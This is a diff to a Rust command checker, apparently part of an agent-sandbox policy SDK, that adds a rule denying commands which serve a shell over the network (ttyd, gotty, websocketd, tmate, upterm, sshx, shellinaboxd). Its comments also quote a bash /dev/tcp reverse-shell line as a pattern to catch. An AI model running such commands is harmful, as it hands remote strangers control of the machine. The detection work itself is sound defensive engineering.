@@ -12,7 +12,10 @@
 //!   `mkfifo` relay);
 //! - a shell whose standard streams are bash's `/dev/tcp/HOST/PORT`
 //!   (`bash -i >& /dev/tcp/h/p 0>&1`), or a line that opens such a
-//!   descriptor with `exec` and runs a shell or a run-time command.
+//!   descriptor with `exec` and runs a shell or a run-time command;
+//! - a terminal served on the network or shared through a relay: a web
+//!   terminal running a shell (`ttyd -p 8080 bash`, `gotty -w bash`,
+//!   `websocketd --port=8080 sh`), `tmate`, `upterm host`, `sshx`.
 
 use clawlaw_sdk::effects::{self, Effects, Exec};
 use clawlaw_sdk::shell::{CommandKind, CommandLine};
@@ -37,6 +40,7 @@ impl Checker<'_> {
             .commands
             .iter()
             .any(|c| c.redirects.iter().any(|r| is_dev_net(&r.target.text)));
+        self.shared_terminal(cl);
         let candidate = dev_net
             || cl.commands.iter().any(|c| {
                 c.kind == CommandKind::Simple
@@ -124,6 +128,39 @@ impl Checker<'_> {
                         "`{}` gives a shell the network connection {} as its input or output: whoever is at the other end runs commands here",
                         show(c),
                         r.target.text
+                    ),
+                );
+            }
+        }
+    }
+
+    /// `ttyd -p 8080 bash`, `tmate`: a shell anyone who reaches the port,
+    /// or the relay's session, types into.
+    fn shared_terminal(&mut self, cl: &CommandLine) {
+        for c in cl.commands.iter().filter(|c| !c.program_dynamic) {
+            let words: Vec<&str> = c.args().iter().map(|w| w.text.as_str()).collect();
+            let serves_shell = || {
+                words.iter().any(|w| {
+                    let program = w.rsplit('/').next().unwrap_or(w);
+                    is_shell(program) || is_interpreter(program) || program == "login"
+                })
+            };
+            let shared = match c.program.as_str() {
+                "ttyd" | "gotty" | "websocketd" | "wetty" => serves_shell(),
+                // With no program named they serve a login shell.
+                "shellinaboxd" => true,
+                "tmate" | "sshx" => !words
+                    .iter()
+                    .any(|w| matches!(*w, "-V" | "--version" | "-h" | "--help")),
+                "upterm" => words.first() == Some(&"host"),
+                _ => false,
+            };
+            if shared {
+                self.deny(
+                    RULE,
+                    format!(
+                        "`{}` serves a shell to whoever reaches it over the network: they run commands here",
+                        show(c)
                     ),
                 );
             }
